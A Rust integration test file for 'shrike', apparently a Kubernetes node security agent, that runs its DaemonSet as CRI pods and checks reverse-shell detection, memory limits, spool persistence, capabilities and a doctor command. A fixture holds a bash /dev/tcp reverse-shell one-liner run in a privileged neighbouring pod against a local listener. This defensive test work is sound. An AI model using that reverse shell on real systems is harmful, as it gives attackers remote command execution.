//! Privileged: the DaemonSet under `deploy/kubernetes`, run for real as far as this machine allows.
//!
//! No Kubernetes control plane can run here, but containerd and CRI can: each test renders a
//! kustomization with `kubectl kustomize`, turns the DaemonSet's pod template into a CRI pod the
//! way the kubelet would — hostPID, the container's securityContext (privileged, or exactly its
//! capability list), read-only root, its volumes and mounts (hostPaths with their propagation,
//! the ConfigMap as files), its env (NODE_NAME from the downward API), its args after the image's
//! entrypoint, its memory limit and QoS class — and runs it with the agent's own image
//! (`cargo xtask image`) in a private containerd. Probes are the manifest's paths; the startup
//! budget is the manifest's. Anything in the pod template this translation does not understand
//! fails the test, so the manifests cannot drift away from what is tested.
//!
//! Two deliberate differences, because this machine has no pod network and no node: pods share
//! the host network, so the metrics listener gets a free 127.0.0.1 port instead of the
//! manifest's `0.0.0.0:9477`; and hostPaths that would collide with this machine's own
//! (`/run/containerd`, the spool, the other runtimes' socket directories) are mapped into the
//! test's directory. `/sys`, `/sys/fs/cgroup` and `/proc` are the host's own.

use shrike_tests::{agent, common, containerd, manifests};
use xtask::image;
use std::{
    collections::BTreeMap,
    path::{Path, PathBuf},
    process::Command,
    time::{Duration, Instant},
};

use agent::listen;
use common::privileged;
use containerd::{Containerd, PodSpec, RunningPod};
use manifests::{deploy_dir, render, Rendered};
use serde_json::Value;

const NODE: &str = "gke-prod-pool-1-node-7";

/// Findings the agent container wrote on stdout, from its CRI log: the latest revision of each.
fn findings_in_log(log: &Path) -> Vec<Value> {
    let mut findings = Vec::new();
    for f in stream_in_log(log, "stdout").lines().filter_map(|l| serde_json::from_str::<Value>(l).ok()).filter(|v| v.get("finding").is_some()) {
        agent::supersede(&mut findings, f);
    }
    findings
}

/// One stream (`stdout`/`stderr`) of a CRI log (`<RFC 3339 time> <stream> <F|P> <line>`).
fn stream_in_log(log: &Path, stream: &str) -> String {
    let text = std::fs::read_to_string(log).unwrap_or_default();
    text.lines().filter(|l| l.split(' ').nth(1) == Some(stream)).map(|l| l.splitn(4, ' ').nth(3).unwrap_or_default()).collect::<Vec<_>>().join("\n")
}

/// `Ki`/`Mi`/`Gi` or plain Kubernetes memory quantities, in bytes.
fn quantity_bytes(q: &str) -> i64 {
    let (num, mult) = [("Ki", 1i64 << 10), ("Mi", 1 << 20), ("Gi", 1 << 30)]
        .iter()
        .find_map(|(suffix, m)| q.strip_suffix(suffix).map(|n| (n, *m)))
        .unwrap_or((q, 1));
    num.parse::<i64>().unwrap_or_else(|_| panic!("memory quantity {q:?} not understood")) * mult
}

/// A free port on 127.0.0.1.
fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

/// The node the pods run on: where the manifest's hostPaths point, the node name.
struct Node {
    dir: PathBuf,
    /// Manifest hostPath → the directory used for it here (absent: the host's own path).
    host_paths: BTreeMap<String, PathBuf>,
}

impl Node {
    fn new(ctrd: &Containerd, tag: &str) -> Node {
        let dir = ctrd.dir.join(format!("node-{tag}"));
        let mut host_paths = BTreeMap::new();
        // The node's containerd: its socket is `containerd.sock` in this directory.
        host_paths.insert("/run/containerd".to_string(), ctrd.socket.parent().unwrap().to_path_buf());
        for (manifest, here) in [("/run/k3s/containerd", "run-k3s-containerd"), ("/var/run/crio", "var-run-crio"), ("/var/lib/shrike", "var-lib-shrike")] {
            host_paths.insert(manifest.to_string(), dir.join(here));
        }
        std::fs::create_dir_all(&dir).unwrap();
        Node { dir, host_paths }
    }

    fn host_path(&self, manifest: &str) -> PathBuf {
        self.host_paths.get(manifest).cloned().unwrap_or_else(|| PathBuf::from(manifest))
    }
}

/// The DaemonSet's pod, as a CRI pod spec, with what the test needs to drive it.
struct DaemonSetPod {
    spec: PodSpec,
    metrics_port: u16,
    /// (path, period, failure threshold) of the startup probe; readiness and liveness paths.
    startup: (String, u64, u64),
    readiness: String,
    liveness: String,
    grace_s: i64,
}

/// The manifest's pod template → a CRI pod, as the kubelet would run it on `node`. `config`
/// edits the agent's configuration (the ConfigMap's shrike.toml) beyond the metrics port.
fn pod_from_daemonset(r: &Rendered, node: &Node, name: &str, config: impl FnOnce(&mut toml::Table)) -> DaemonSetPod {
    let pod = r.pod();
    let c = r.container();
    let known = |v: &Value, keys: &[&str], what: &str| {
        for k in v.as_object().unwrap_or_else(|| panic!("{what} is an object")).keys() {
            assert!(keys.contains(&k.as_str()), "{}: {what}.{k} is not translated into the CRI pod; teach this test about it", r.name);
        }
    };
    known(
        pod,
        &[
            "serviceAccountName",
            "automountServiceAccountToken",
            "enableServiceLinks",
            "hostPID",
            "priorityClassName",
            "tolerations",
            "terminationGracePeriodSeconds",
            "containers",
            "volumes",
        ],
        "spec.template.spec",
    );
    known(
        c,
        &["name", "image", "imagePullPolicy", "args", "env", "ports", "startupProbe", "readinessProbe", "livenessProbe", "resources", "securityContext", "volumeMounts"],
        "container",
    );
    let mut spec = PodSpec::new(name, &[]);
    spec.command.clear();
    spec.namespace = r.one("DaemonSet")["metadata"]["namespace"].as_str().unwrap().to_string();
    spec.container_name = c["name"].as_str().unwrap().to_string();
    spec.labels = r.one("DaemonSet")["spec"]["template"]["metadata"]["labels"]
        .as_object()
        .unwrap()
        .iter()
        .map(|(k, v)| (k.clone(), v.as_str().unwrap().to_string()))
        .collect();
    spec.image = Some(c["image"].as_str().unwrap().to_string());
    spec.args = c["args"].as_array().unwrap().iter().map(|a| a.as_str().unwrap().to_string()).collect();
    spec.host_pid = pod["hostPID"] == true;
    for e in c["env"].as_array().unwrap() {
        let value = match (e.get("value"), e["valueFrom"]["fieldRef"]["fieldPath"].as_str()) {
            (Some(v), _) => v.as_str().unwrap().to_string(),
            (None, Some("spec.nodeName")) => NODE.to_string(),
            _ => panic!("env {e} is not translated"),
        };
        spec.env.push((e["name"].as_str().unwrap().to_string(), value));
    }
    // SHRIKE_TEST_AGENT_LOG=<filter> runs the agent with that log filter (to see why a test failed).
    if let Ok(filter) = std::env::var("SHRIKE_TEST_AGENT_LOG") {
        spec.env.retain(|(k, _)| k != "SHRIKE_LOG");
        spec.env.push(("SHRIKE_LOG".into(), filter));
    }
    // Security context.
    let sc = &c["securityContext"];
    known(sc, &["privileged", "readOnlyRootFilesystem", "allowPrivilegeEscalation", "capabilities", "seccompProfile"], "securityContext");
    spec.privileged = sc["privileged"] == true;
    spec.readonly_rootfs = sc["readOnlyRootFilesystem"] == true;
    if let Some(caps) = sc.get("capabilities") {
        assert_eq!(caps["drop"], serde_json::json!(["ALL"]), "capabilities.drop");
        spec.capabilities = Some(caps["add"].as_array().unwrap().iter().map(|c| c.as_str().unwrap().to_string()).collect());
    }
    // seccomp Unconfined is what this CRI pod gets when no profile is named.
    if let Some(p) = sc.get("seccompProfile") {
        assert_eq!(p["type"], "Unconfined");
    }
    // Resources: a memory limit, requests → burstable.
    let res = &c["resources"];
    known(res, &["requests", "limits"], "resources");
    assert!(res["limits"].get("cpu").is_none(), "no CPU limit");
    spec.memory_limit = quantity_bytes(res["limits"]["memory"].as_str().unwrap());
    spec.qos = "burstable";
    // Volumes.
    let volumes = pod["volumes"].as_array().unwrap();
    let metrics_port = free_port();
    let mut config = Some(config);
    for m in c["volumeMounts"].as_array().unwrap() {
        known(m, &["name", "mountPath", "readOnly", "mountPropagation"], "volumeMount");
        let v = volumes.iter().find(|v| v["name"] == m["name"]).unwrap();
        let target = m["mountPath"].as_str().unwrap().to_string();
        let readonly = m["readOnly"] == true;
        let source = if let Some(hp) = v.get("hostPath") {
            let path = node.host_path(hp["path"].as_str().unwrap());
            match hp["type"].as_str().unwrap_or_default() {
                "Directory" => assert!(path.is_dir(), "hostPath {} must exist", path.display()),
                "DirectoryOrCreate" => std::fs::create_dir_all(&path).unwrap(),
                t => panic!("hostPath type {t} is not translated"),
            }
            path
        } else if let Some(cm) = v.get("configMap") {
            let data = &r.all("ConfigMap").into_iter().find(|d| d["metadata"]["name"] == cm["name"]).expect("the ConfigMap")["data"];
            let dir = node.dir.join(format!("configmap-{name}"));
            std::fs::create_dir_all(&dir).unwrap();
            for (file, text) in data.as_object().unwrap() {
                let mut text = text.as_str().unwrap().to_string();
                if file == "shrike.toml" {
                    let mut t: toml::Table = text.parse().expect("shrike.toml parses");
                    // No pod network here: the listener goes on a free loopback port.
                    t["metrics"].as_table_mut().unwrap().insert("listen".into(), format!("127.0.0.1:{metrics_port}").into());
                    // No metadata server on this machine (the GKE answer is tested elsewhere).
                    t["node"].as_table_mut().unwrap().insert("metadata_server".into(), "off".into());
                    if let Some(edit) = config.take() {
                        edit(&mut t);
                    }
                    text = toml::to_string(&t).unwrap();
                }
                std::fs::write(dir.join(file), text).unwrap();
            }
            dir
        } else {
            panic!("volume {v} is not translated");
        };
        match m["mountPropagation"].as_str() {
            Some("HostToContainer") => spec.host_to_container.push(target.clone()),
            None => {}
            Some(p) => panic!("mountPropagation {p} is not translated"),
        }
        spec.extra_mounts.push((source, target, readonly));
    }
    let probe = |p: &str| {
        let p = &c[p];
        assert_eq!(p["httpGet"]["port"], "metrics", "probes use the metrics port");
        (p["httpGet"]["path"].as_str().unwrap().to_string(), p["periodSeconds"].as_u64().unwrap(), p["failureThreshold"].as_u64().unwrap())
    };
    let startup = probe("startupProbe");
    let (readiness, liveness) = (probe("readinessProbe").0, probe("livenessProbe").0);
    assert!(config.is_none(), "the pod mounts no shrike.toml");
    DaemonSetPod { spec, metrics_port, startup, readiness, liveness, grace_s: pod["terminationGracePeriodSeconds"].as_i64().unwrap() }
}

/// GET `path` on 127.0.0.1:`port`; `None` while nothing listens.
fn probe(port: u16, path: &str) -> Option<String> {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(3))).ok()?;
    write!(s, "GET {path} HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n").ok()?;
    let mut out = String::new();
    s.read_to_string(&mut out).ok()?;
    Some(out)
}

fn probe_ok(port: u16, path: &str) -> bool {
    probe(port, path).is_some_and(|r| r.starts_with("HTTP/1.1 200") || r.starts_with("HTTP/1.0 200"))
}

impl DaemonSetPod {
    /// Wait as the kubelet's startup probe would (period × failure threshold), then check the
    /// readiness and liveness paths.
    async fn wait_started(&self, ctrd: &Containerd) -> Duration {
        let (path, period, threshold) = &self.startup;
        let budget = Duration::from_secs(period * threshold);
        let start = Instant::now();
        let log = ctrd.container_log(&self.spec);
        while !probe_ok(self.metrics_port, path) {
            assert!(start.elapsed() < budget, "startup probe {path} not ok within the manifest's {budget:?}; agent log:\n{}", stream_in_log(&log, "stderr"));
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
        assert!(probe_ok(self.metrics_port, &self.readiness), "readiness probe {}", self.readiness);
        assert!(probe_ok(self.metrics_port, &self.liveness), "liveness probe {}", self.liveness);
        start.elapsed()
    }
}

async fn wait_findings(log: &Path, what: &str, pred: impl Fn(&[Value]) -> bool) -> Vec<Value> {
    let start = Instant::now();
    loop {
        let f = findings_in_log(log);
        if pred(&f) {
            return f;
        }
        assert!(start.elapsed() < Duration::from_secs(30), "{what}: not within 30 s; findings {f:?}\nagent log:\n{}", stream_in_log(log, "stderr"));
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

fn of_pod<'a>(findings: &'a [Value], pod: &str) -> Vec<&'a Value> {
    findings.iter().filter(|f| f["finding"]["sourceProperties"]["Pod_Name"] == pod).collect()
}

fn of_container<'a>(findings: &'a [Value], id: &str) -> Vec<&'a Value> {
    findings.iter().filter(|f| f["finding"]["sourceProperties"]["Container_Id"] == id).collect()
}

/// Pods mount with HostToContainer propagation, which the runtime accepts only from a shared or
/// slave host mount. systemd makes `/` shared (recursively) at boot on every node; this machine
/// is not booted by systemd, so the test does the same.
fn make_root_shared() {
    let out = Command::new("mount").args(["--make-rshared", "/"]).output().expect("run mount");
    assert!(out.status.success(), "mount --make-rshared /: {}", String::from_utf8_lossy(&out.stderr));
}

/// The image under the rendered name, imported into the node's containerd.
fn import_agent_image(ctrd: &Containerd, r: &Rendered) {
    let name = r.container()["image"].as_str().unwrap().to_string();
    let archive = ctrd.dir.join("shrike-image.tar");
    let id = image::write_archive(Path::new(shrike_tests::shrike()), "test", &[name], &archive).expect("image archive");
    println!("image {id}: {} bytes", std::fs::metadata(&archive).unwrap().len());
    ctrd.import_image(&archive);
}

/// A node as the tests run one: shared mount propagation, a private containerd with the agent's
/// image under the name `kustomization` (relative to `deploy/kubernetes`) renders, and the node's
/// directories tagged `tag`.
fn node_running(kustomization: &str, tag: &str) -> (Rendered, Containerd, Node) {
    make_root_shared();
    let r = render(&deploy_dir().join(kustomization), kustomization);
    let ctrd = Containerd::start();
    import_agent_image(&ctrd, &r);
    let node = Node::new(&ctrd, tag);
    (r, ctrd, node)
}

/// A reverse shell in a neighbouring pod that first enters a cgroup namespace of its own, as
/// every container on a cgroup v2 node does: its /proc/self/cgroup then reads `0::/`, and the
/// shell connects only when it does.
fn private_cgroupns_attack(name: &str, port: u16) -> PodSpec {
    let script = format!("grep -qx '0::/' /proc/self/cgroup && exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
    let mut s = PodSpec::new(name, &["/usr/bin/unshare", "--cgroup", "/bin/bash", "-c", &script]);
    s.labels.insert("tier".into(), "frontend".into());
    // unshare(CLONE_NEWCGROUP) needs CAP_SYS_ADMIN in the container.
    s.privileged = true;
    s
}

/// The agent container's cgroup directory under a hierarchy, and its peak memory use (bytes):
/// cgroup v1's memory.max_usage_in_bytes or v2's memory.peak.
fn memory_peak(pod: &RunningPod) -> (PathBuf, u64) {
    let rel = pod.spec.container_cgroup(&pod.container_id);
    for (dir, file) in [("/sys/fs/cgroup/memory", "memory.max_usage_in_bytes"), ("/sys/fs/cgroup", "memory.peak")] {
        let d = PathBuf::from(format!("{dir}{rel}"));
        if let Ok(v) = std::fs::read_to_string(d.join(file)) {
            return (d, v.trim().parse().unwrap());
        }
    }
    panic!("no memory cgroup for {rel}");
}

/// Peak resident set of a process (VmHWM), bytes.
fn peak_rss(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status.lines().find_map(|l| l.strip_prefix("VmHWM:")).and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok()).unwrap_or(0) * 1024
}

async fn wait_exit(ctrd: &Containerd, id: &str, within: Duration) -> Option<i32> {
    let start = Instant::now();
    while start.elapsed() < within {
        if let Some(code) = ctrd.exit_code(id).await {
            return Some(code);
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    None
}

/// The rendered GKE overlay, as a CRI pod: probes, pod metadata of neighbours with private
/// cgroup namespaces, benign neighbours silent, memory under an exec storm within the manifest's
/// limit, the spool surviving a killed container, a graceful stop within the grace period.
#[tokio::test(flavor = "current_thread")]
async fn daemonset_pod_reports_neighbours_and_keeps_its_findings() {
    if !privileged("daemonset_pod_reports_neighbours_and_keeps_its_findings") {
        return;
    }
    let (r, ctrd, node) = node_running("overlays/gke", "gke");
    // A webhook that is down: findings wait in the spool on the node.
    let dead_port = free_port();
    let ds = pod_from_daemonset(&r, &node, "shrike-abcde", |t| {
        let hook: toml::Table =
            format!("name = \"siem\"\nurl = \"http://127.0.0.1:{dead_port}/ingest\"\nbackoff_initial_ms = 200\nbackoff_max_ms = 1000\n").parse().unwrap();
        t["sinks"].as_table_mut().unwrap().insert("webhook".into(), toml::Value::Array(vec![toml::Value::Table(hook)]));
    });

    let agent_pod = ctrd.run_pod(&ds.spec).await;
    let log = ctrd.container_log(&ds.spec);
    let to_ready = ds.wait_started(&ctrd).await;
    println!("pod start to ready: {to_ready:?}");

    // A reverse shell in a neighbouring pod with a private cgroup namespace, and a benign one.
    let l = listen("id; exit\n");
    let attack_pod = ctrd.run_pod(&private_cgroupns_attack("web-attacked", l.port)).await;
    let benign = ctrd.run_pod(&PodSpec::new("web-benign", &["/bin/sh", "-c", "ls / >/dev/null; id; sleep 1"])).await;
    let findings = wait_findings(&log, "a Reverse Shell from the attacked pod", |f| {
        of_pod(f, "web-attacked").iter().any(|x| x["finding"]["category"] == "Reverse Shell")
    })
    .await;
    assert!(l.thread.join().unwrap().contains("uid="), "the shell in the private cgroup namespace really ran");
    let rs = of_pod(&findings, "web-attacked").into_iter().find(|x| x["finding"]["category"] == "Reverse Shell").unwrap().clone();
    let p = &rs["finding"]["kubernetes"]["pods"][0];
    assert_eq!(p["ns"], "shrike-test");
    assert_eq!(p["name"], "web-attacked");
    assert!(p["labels"].as_array().unwrap().iter().any(|l| l["name"] == "tier" && l["value"] == "frontend"), "{p}");
    assert_eq!(rs["finding"]["containers"][0]["uri"], containerd::TOOLS_IMAGE);
    assert_eq!(rs["finding"]["sourceProperties"]["Container_Id"], attack_pod.container_id);
    assert_eq!(rs["finding"]["sourceProperties"]["VM_Instance_Name"], NODE, "NODE_NAME from the downward API");
    assert_eq!(rs["finding"]["sourceProperties"]["Enrichment"], "complete");
    assert!(rs["finding"]["processes"][0]["binary"]["sha256"].as_str().is_some_and(|h| h.len() == 64), "the neighbour's executable read through the host's view: {rs}\nagent log:\n{}", stream_in_log(&log, "stderr"));

    // An exec storm in another neighbour: the agent's memory (its RSS, BPF maps and ring buffer,
    // page cache of its writes: all charged to its cgroup) stays under the manifest's limit.
    let storm = ctrd.run_pod(&PodSpec::new("exec-storm", &["/bin/bash", "-c", "for i in $(seq 10000); do /bin/true; done"])).await;
    let storm_start = Instant::now();
    let code = wait_exit(&ctrd, &storm.container_id, Duration::from_secs(240)).await;
    assert_eq!(code, Some(0), "the storm ran");
    let storm_time = storm_start.elapsed();
    tokio::time::sleep(Duration::from_secs(2)).await;
    let (cg, peak) = memory_peak(&agent_pod);
    let rss = peak_rss(agent_pod.pid);
    println!(
        "exec storm: 10000 execs in {storm_time:?}; agent peak RSS {:.1} MiB; container memory peak {:.1} MiB ({}), limit {:.0} MiB",
        rss as f64 / 1048576.0,
        peak as f64 / 1048576.0,
        cg.display(),
        ds.spec.memory_limit as f64 / 1048576.0
    );
    assert!((peak as i64) < ds.spec.memory_limit * 3 / 4, "memory peak {peak} too close to the limit {}", ds.spec.memory_limit);
    assert!(probe_ok(ds.metrics_port, &ds.liveness), "alive after the storm");
    assert_eq!(ctrd.exit_code(&agent_pod.container_id).await, None, "not OOM-killed");

    // Nothing from the benign neighbour, the storm, nor the agent's own pod.
    let findings = findings_in_log(&log);
    for quiet in ["web-benign", "exec-storm", "shrike-abcde"] {
        assert!(of_pod(&findings, quiet).is_empty(), "{quiet} flagged: {:?}", of_pod(&findings, quiet));
    }

    // The webhook is down: the findings are in the spool on the node; kill the container
    // (SIGKILL, no grace) and start it again: the spool is picked up.
    let spool = node.host_path("/var/lib/shrike").join("spool").join("siem");
    let spooled = || common::spooled_files(&spool).len();
    let before = spooled();
    assert!(before >= 1, "findings spooled on the node: {before}");
    ctrd.stop_container(&agent_pod.container_id, 0).await;
    ctrd.remove_pod(&agent_pod).await;
    assert_eq!(spooled(), before, "a killed agent keeps its spool");
    let mut again = ds.spec.clone();
    again.name = "shrike-fghij".into();
    again.uid = PodSpec::new("x", &[]).uid;
    let restarted = ctrd.run_pod(&again).await;
    let log2 = ctrd.container_log(&again);
    let ds2 = DaemonSetPod { spec: again, ..ds };
    ds2.wait_started(&ctrd).await;
    let metrics = agent::http_get(&format!("127.0.0.1:{}", ds2.metrics_port), "/metrics");
    assert!(agent::metric(&metrics, "shrike_sink_spool_bytes{sink=\"siem\"}") > 0.0, "the restarted agent picked up the spool:\n{metrics}");
    // A graceful stop (SIGTERM) ends well within the manifest's grace period.
    let stopping = Instant::now();
    ctrd.stop_container(&restarted.container_id, ds2.grace_s).await;
    let took = stopping.elapsed();
    assert!(took < Duration::from_secs(ds2.grace_s as u64 / 2), "stopped in {took:?}, grace {} s", ds2.grace_s);
    assert_eq!(ctrd.exit_code(&restarted.container_id).await, Some(0), "a clean exit, not a SIGKILL");
    let stopped_log = stream_in_log(&log2, "stderr");
    assert!(stopped_log.contains("shrike stopped"), "{stopped_log}");
    assert!(stopped_log.lines().all(|l| serde_json::from_str::<Value>(l).is_ok_and(|v| v["severity"].is_string())), "JSON logs:\n{stopped_log}");
    assert_eq!(spooled(), before, "what could not be delivered is still in the spool");
    for p in [&attack_pod, &benign, &storm, &restarted] {
        ctrd.remove_pod(p).await;
    }
    ctrd.stop();
}

/// The least-privileged overlay's pod: works with exactly its capabilities (a neighbour's
/// attack reported with its pod and executable hash), and without any one of them exits at
/// once naming the missing capability.
#[tokio::test(flavor = "current_thread")]
async fn least_privileged_pod_needs_exactly_its_capabilities() {
    if !privileged("least_privileged_pod_needs_exactly_its_capabilities") {
        return;
    }
    let (r, ctrd, node) = node_running("overlays/least-privileged", "lp");
    let ds = pod_from_daemonset(&r, &node, "shrike-lp", |_| {});
    let caps = ds.spec.capabilities.clone().expect("a capability list");
    assert!(!ds.spec.privileged);
    let agent_pod = ctrd.run_pod(&ds.spec).await;
    let log = ctrd.container_log(&ds.spec);
    ds.wait_started(&ctrd).await;
    let l = listen("id; exit\n");
    let attack = ctrd.run_pod(&private_cgroupns_attack("lp-attacked", l.port)).await;
    let findings = wait_findings(&log, "a Reverse Shell with exactly the overlay's capabilities", |f| {
        of_pod(f, "lp-attacked").iter().any(|x| x["finding"]["category"] == "Reverse Shell")
    })
    .await;
    let rs = of_pod(&findings, "lp-attacked").into_iter().find(|x| x["finding"]["category"] == "Reverse Shell").unwrap().clone();
    assert_eq!(rs["finding"]["sourceProperties"]["Enrichment"], "complete");
    assert!(rs["finding"]["processes"][0]["binary"]["sha256"].as_str().is_some_and(|h| h.len() == 64), "SYS_PTRACE and DAC_READ_SEARCH let it read the neighbour's executable: {rs}");
    ctrd.remove_pod(&attack).await;
    ctrd.remove_pod(&agent_pod).await;

    for cap in &caps {
        let mut spec = ds.spec.clone();
        spec.name = format!("shrike-no-{}", cap.to_lowercase().replace('_', "-"));
        spec.uid = PodSpec::new("x", &[]).uid;
        spec.capabilities = Some(caps.iter().filter(|c| *c != cap).cloned().collect());
        let pod = ctrd.run_pod(&spec).await;
        let code = wait_exit(&ctrd, &pod.container_id, Duration::from_secs(30)).await;
        let err = stream_in_log(&ctrd.container_log(&spec), "stderr");
        assert!(code.is_some_and(|c| c != 0), "without {cap} the agent must stop (exit {code:?}); log:\n{err}");
        assert!(err.contains(&format!("missing capabilities: CAP_{cap} (to ")), "without {cap} the log says so:\n{err}");
        println!("without {cap}: exit {code:?}");
        ctrd.remove_pod(&pod).await;
    }
    ctrd.stop();
}

/// The CRI socket: none at first (the node's runtime directories are empty), then one appearing
/// in k3s's directory while the agent runs; and a configured socket that does not exist.
/// Without a runtime, findings still name the container id, marked incomplete.
#[tokio::test(flavor = "current_thread")]
async fn runtime_socket_found_when_it_appears_and_findings_marked_incomplete_without_it() {
    if !privileged("runtime_socket_found_when_it_appears_and_findings_marked_incomplete_without_it") {
        return;
    }
    let (r, ctrd, mut node) = node_running("base", "late");
    // The node's /run/containerd is empty: no runtime socket anywhere at start.
    node.host_paths.insert("/run/containerd".into(), node.dir.join("run-containerd-empty"));
    let ds = pod_from_daemonset(&r, &node, "shrike-late", |_| {});
    let agent_pod = ctrd.run_pod(&ds.spec).await;
    let log = ctrd.container_log(&ds.spec);
    ds.wait_started(&ctrd).await;

    let l1 = listen("id; exit\n");
    let first = ctrd.run_pod(&private_cgroupns_attack("before-socket", l1.port)).await;
    let f = wait_findings(&log, "a finding without pod metadata", |f| !of_container(f, &first.container_id).is_empty()).await;
    let x = of_container(&f, &first.container_id)[0];
    assert_eq!(x["finding"]["sourceProperties"]["Enrichment"], "incomplete", "{x}");
    assert!(x["finding"]["sourceProperties"]["Enrichment_Error"].as_str().is_some_and(|e| e.contains("no container runtime socket")), "{x}");
    assert!(x["finding"]["kubernetes"]["pods"].is_null(), "no pod known: {x}");

    // The runtime's socket appears in k3s's directory (a hard link to the node's socket).
    std::fs::hard_link(&ctrd.socket, node.host_path("/run/k3s/containerd").join("containerd.sock")).unwrap();
    let l2 = listen("id; exit\n");
    let second = ctrd.run_pod(&private_cgroupns_attack("after-socket", l2.port)).await;
    let f = wait_findings(&log, "a finding with pod metadata once the socket appeared", |f| {
        of_container(f, &second.container_id).iter().any(|x| x["finding"]["sourceProperties"]["Pod_Name"] == "after-socket")
    })
    .await;
    let x = of_container(&f, &second.container_id).into_iter().find(|x| x["finding"]["sourceProperties"]["Pod_Name"] == "after-socket").unwrap();
    assert_eq!(x["finding"]["sourceProperties"]["Enrichment"], "complete", "{x}");
    for p in [&first, &second, &agent_pod] {
        ctrd.remove_pod(p).await;
    }

    // A configured socket that is not there.
    let node = Node::new(&ctrd, "wrong");
    let ds = pod_from_daemonset(&r, &node, "shrike-wrong", |t| {
        t["container"].as_table_mut().unwrap().insert("runtime_endpoint".into(), "unix:///run/containerd/wrong.sock".into());
    });
    let agent_pod = ctrd.run_pod(&ds.spec).await;
    let log = ctrd.container_log(&ds.spec);
    ds.wait_started(&ctrd).await;
    let l3 = listen("id; exit\n");
    let third = ctrd.run_pod(&private_cgroupns_attack("wrong-socket", l3.port)).await;
    let f = wait_findings(&log, "a finding with a wrong socket configured", |f| !of_container(f, &third.container_id).is_empty()).await;
    let x = of_container(&f, &third.container_id)[0];
    assert_eq!(x["finding"]["sourceProperties"]["Enrichment"], "incomplete", "{x}");
    assert!(x["finding"]["sourceProperties"]["Enrichment_Error"].as_str().is_some_and(|e| e.contains("wrong.sock")), "{x}");
    for p in [&third, &agent_pod] {
        ctrd.remove_pod(p).await;
    }
    ctrd.stop();
}

/// `shrike doctor` in the DaemonSet's pod: every in-container condition holds; in a pod without
/// hostPID, the node name or the spool's hostPath, it says what is wrong.
#[tokio::test(flavor = "current_thread")]
async fn doctor_checks_the_pod_it_runs_in() {
    if !privileged("doctor_checks_the_pod_it_runs_in") {
        return;
    }
    let (r, ctrd, node) = node_running("overlays/kind", "doctor");
    let ds = pod_from_daemonset(&r, &node, "shrike-doctor", |_| {});
    let doctor = |spec: &PodSpec| {
        let mut s = spec.clone();
        s.args = vec!["doctor".into(), "--json".into(), "--config".into(), "/etc/shrike/shrike.toml".into()];
        s
    };
    let run = |spec: PodSpec| {
        let ctrd = &ctrd;
        async move {
            let pod = ctrd.run_pod(&spec).await;
            let code = wait_exit(ctrd, &pod.container_id, Duration::from_secs(60)).await;
            let out = stream_in_log(&ctrd.container_log(&spec), "stdout");
            ctrd.remove_pod(&pod).await;
            let checks: Vec<Value> = serde_json::from_str(&out).unwrap_or_else(|e| panic!("doctor --json: {e}: {out}"));
            let by_name: BTreeMap<String, Value> = checks.into_iter().map(|c| (c["name"].as_str().unwrap().to_string(), c)).collect();
            (code, by_name)
        }
    };
    let (code, checks) = run(doctor(&ds.spec)).await;
    for name in ["privileges", "pid-namespace", "cgroup-tree", "container-runtime", "spool", "node-name", "btf", "probes"] {
        assert_eq!(checks[name]["verdict"], "ok", "in the DaemonSet's pod: {}", checks[name]);
    }
    assert!(checks["node-name"]["detail"].as_str().unwrap().contains(NODE), "{}", checks["node-name"]);
    assert_eq!(code, Some(0));

    // The same pod without hostPID, NODE_NAME or the spool's hostPath.
    let mut bad = doctor(&ds.spec);
    bad.name = "shrike-doctor-bad".into();
    bad.uid = PodSpec::new("x", &[]).uid;
    bad.host_pid = false;
    bad.env.retain(|(k, _)| k != "NODE_NAME");
    bad.extra_mounts.retain(|m| m.1 != "/var/lib/shrike");
    let (code, checks) = run(bad).await;
    assert_eq!(checks["pid-namespace"]["verdict"], "fail", "{}", checks["pid-namespace"]);
    assert!(checks["pid-namespace"]["advice"].as_str().unwrap().contains("hostPID"), "{}", checks["pid-namespace"]);
    assert_eq!(checks["node-name"]["verdict"], "warn", "{}", checks["node-name"]);
    assert_ne!(checks["spool"]["verdict"], "ok", "a spool on the read-only root: {}", checks["spool"]);
    assert_eq!(code, Some(1), "doctor fails when a check fails");
    ctrd.stop();
}
